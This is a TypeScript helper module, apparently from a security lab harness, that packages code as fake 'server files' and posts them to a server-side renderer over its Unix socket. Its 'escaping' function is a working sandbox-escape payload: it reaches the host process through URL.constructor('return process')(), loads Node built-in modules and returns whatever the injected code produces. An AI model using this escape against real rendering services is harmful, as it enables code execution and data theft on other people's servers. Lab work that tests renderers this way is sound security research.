import { createHash } from 'node:crypto';
import { send, type LabResponse } from './http.js';
import { attackTarget } from './attack-target.js';

interface ServerFile {
  readonly name: string;
  readonly sha384: string;
  readonly releasePath: string;
  readonly source: string;
}

/** A server file, as in a release of a team. */
export function serverFile(name: string, source: string, version = '1.0.0'): ServerFile {
  const sha384 = `sha384-${createHash('sha384').update(source).digest('base64')}`;
  return { name, sha384, releasePath: `/r/${name}/${version}/`, source };
}

export const shellFile = (draw: string): ServerFile =>
  serverFile('shell', `exports.singletons = { react: {} }; exports.render = async (view) => { ${draw} };`);

/** Calls the product's own renderer, as the BFF does. */
export function render(shell: ServerFile, remote?: ServerFile): Promise<LabResponse> {
  const socketPath = attackTarget.processes.find(({ name }) => name === 'ssr')?.socket;
  if (!socketPath) throw new Error('The renderer listens on no socket here');
  const site = { name: 'Academy', apiOrigin: '', adminOrigin: '', contactEmail: null, contactPhone: null };
  const view = { url: '/course', data: [], hasSessionHint: false, registry: [], site };
  return send('http://localhost:1', '/render', { method: 'POST', body: { view, shell, remote }, socketPath });
}

/** Escapes from its context, and returns the result of the code as JSON. */
export const escaping = (code: string): ServerFile =>
  shellFile(`const process = URL.constructor('return process')();
    const load = (name) => process.getBuiltinModule('node:' + name);
    const tried = async (act) => { try { return await act(); } catch (error) { return 'refused: ' + (error.code ?? error.message); } };
    const found = await (async () => (${code}))();
    return { html: JSON.stringify(found), parts: [] };`);
